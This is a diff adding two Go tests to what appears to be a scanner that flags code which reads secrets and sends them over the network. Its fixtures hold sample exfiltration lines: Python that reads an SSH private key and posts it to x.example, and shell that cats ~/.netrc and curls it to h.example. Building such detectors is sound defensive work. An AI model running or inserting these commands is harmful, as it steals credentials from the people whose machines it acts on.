@@ -28,6 +28,31 @@ func TestBounds(t *testing.T) {
 	}
 }
 
+// TestLongStatement: what stands behind the sixtieth line of a statement may be what is sent,
+// so that nothing is said to be apart, and a gap is told.
+func TestLongStatement(t *testing.T) {
+	t.Parallel()
+	for lines, want := range map[int]string{maxLines / 2: "key:1 x.example:LINE body apart", maxLines + 5: "key:1 x.example:LINE body"} {
+		told := 0
+		source := "k = open('/home/me/.ssh/id_rsa').read()\nn = {\n" + strings.Repeat("  'a': 1,\n", lines) + "}\nrequests.post('https://x.example/', data=n)\n"
+		got := shownOf(Find([]Text{text("a.py", source)}, nil, func(string, string) { told++ }))
+		if want := strings.ReplaceAll(want, "LINE", fmt.Sprint(lines+4)); got != want || (told > 0) != (lines > maxLines) {
+			t.Errorf("%d lines: %q is found, want %q, and %d gaps are told", lines, got, want, told)
+		}
+	}
+}
+
+// TestPairs: pairs of what is read and what is sent are looked at up to a bound, which is told.
+func TestPairs(t *testing.T) {
+	t.Parallel()
+	told := false
+	source := strings.Repeat("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://h.example/\n", 500)
+	found := Find([]Text{text("a.sh", source)}, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) })
+	if !told || len(found) == 0 {
+		t.Errorf("told: %t, %d are found", told, len(found))
+	}
+}
+
 // TestWork: where no work is left, it is told, and nothing counts as apart from what is sent.
 func TestWork(t *testing.T) {
 	t.Parallel()
